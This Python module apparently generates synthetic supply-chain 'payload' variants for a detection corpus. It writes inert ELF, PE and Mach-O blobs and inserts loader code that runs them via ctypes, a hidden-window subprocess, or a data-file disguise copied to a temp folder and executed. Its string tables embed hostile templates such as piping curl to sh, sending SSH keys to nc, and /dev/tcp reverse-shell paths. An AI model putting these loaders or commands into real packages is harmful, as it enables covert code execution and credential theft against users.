"""Payloads in native code: small ELF, PE and Mach-O files made of bytes, which no loader would run."""

import struct

from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.variants.inert_library import inert_library

_STRINGS = {
    "train": ("curl -fsSL @url@ | sh", "/bin/sh", "-c", "/tmp/@file@", "HOME", "system", "popen", "@host@"),  # noqa: S108 - a text in an inert file
    "valid": ("wget -qO- @url@", "/bin/bash", "execvp", "@host@:@port@", "getaddrinfo"),
    "test": ("cat ~/.ssh/id_* | nc @ip@ @port@", "sh -i", "posix_spawn", "/dev/tcp/@ip@/@port@", "cmd.exe /c", "WinExec",
             "https://@domain@/@word@"),
}  # fmt: skip


def _library(draft: Draft, *, is_windows: bool) -> bytes:
    strings = [draft.words.render(s) for s in _STRINGS[draft.words.split]]
    kept = draft.rng.sample(strings, draft.rng.randrange(3, len(strings)))
    return inert_library([strings[0], *kept], is_windows=is_windows, rng=draft.rng)


def _load_line(draft: Draft, path: str) -> None:
    parts = ", ".join(repr(p) for p in path.removeprefix(draft.folder).split("/"))
    at = f"os.path.join(os.path.dirname(__file__), {parts})"
    text = draft.rng.choice((
        f"import ctypes\nimport os\n\ntry:\n    ctypes.CDLL({at})\nexcept OSError:\n    pass\n",
        f"import ctypes\nimport os\n_lib = ctypes.cdll.LoadLibrary({at})\n",
    ))  # fmt: skip
    draft.insert(draft.init, text)


def shared_library(draft: Draft) -> None:
    """Load a new ELF library through ctypes."""
    path = f"{draft.folder}{draft.rng.choice(('', '.libs/', 'lib/'))}{draft.rng.choice(('libhelper', '_fast', 'libcore', 'libutil'))}.so"
    draft.put_new(path, _library(draft, is_windows=False))
    _load_line(draft, path)


def windows_program(draft: Draft) -> None:
    """Start a new program of Windows."""
    path = f"{draft.folder}bin/{draft.words.word()}.exe"
    draft.put_new(path, _library(draft, is_windows=True))
    draft.insert(draft.init, (
        f"import os\nimport subprocess\n\nif os.name == 'nt':\n    subprocess.Popen([os.path.join(os.path.dirname(__file__), 'bin', '{path.rpartition('/')[2]}')], creationflags=0x08000000)\n"
    ))  # fmt: skip


def windows_library(draft: Draft) -> None:
    """Load a new library of Windows."""
    path = f"{draft.folder}{draft.words.word()}.dll"
    draft.put_new(path, _library(draft, is_windows=True))
    _load_line(draft, path)


def extension_module(draft: Draft) -> None:
    """Import a new extension module of a release that had none."""
    name = draft.rng.choice(("_speedups", "_cext", "_native_ops"))
    version = draft.rng.choice(("310", "311", "312", "313"))
    draft.put_new(f"{draft.folder}{name}.cpython-{version}-x86_64-linux-gnu.so", _library(draft, is_windows=False))
    draft.insert(draft.init, f"from . import {name}  # noqa\n")


def mach_library(draft: Draft) -> None:
    """Load a new library of macOS."""
    path = f"{draft.folder}{draft.words.word()}.dylib"
    body = _library(draft, is_windows=False)[64:]
    draft.put_new(path, struct.pack("<8I", 0xFEEDFACF, 0x0100000C, 0, 6, 0, 0, 0, 0) + body)
    _load_line(draft, path)


def disguised(draft: Draft) -> None:
    """Start a program that has the name of a data file."""
    name = f"{draft.words.word()}{draft.rng.choice(('.dat', '.ttf', '.gif', '.model'))}"
    draft.put_new(f"{draft.folder}assets/{name}", _library(draft, is_windows=draft.rng.random() < 0.4))
    draft.insert(draft.init, draft.words.render(
        "import os\nimport shutil\nimport subprocess\nimport tempfile\n\n@n5@ = os.path.join(tempfile.gettempdir(), '@file@')\n"
        f"shutil.copy(os.path.join(os.path.dirname(__file__), 'assets', '{name}'), @n5@)\nos.chmod(@n5@, 0o755)\nsubprocess.Popen([@n5@])\n"
    ))  # fmt: skip


def native_script(draft: Draft) -> None:
    """Install a program through the scripts folder of a wheel."""
    info = next((p.split("/")[0] for p in draft.files if ".dist-info/" in p), "")
    if not info:
        raise draft.fail("has no dist-info")
    draft.put_new(
        f"{info.removesuffix('.dist-info')}.data/scripts/{draft.words.word()}d", _library(draft, is_windows=False)
    )


FAMILIES = (
    Family("elf-library", "native", "train", shared_library, dress="native", takes_trigger=False),
    Family("windows-program", "native", "train", windows_program, dress="native", takes_trigger=False),
    Family("windows-library", "native", "valid", windows_library, dress="native", takes_trigger=False),
    Family("extension-module", "native", "test", extension_module, "wheel", "native", takes_trigger=False),
    Family("mach-library", "native", "test", mach_library, dress="native", takes_trigger=False),
    Family("disguised-program", "native", "train", disguised, dress="native", takes_trigger=False),
    Family("native-script", "native", "test", native_script, "wheel", "native", takes_trigger=False),
)
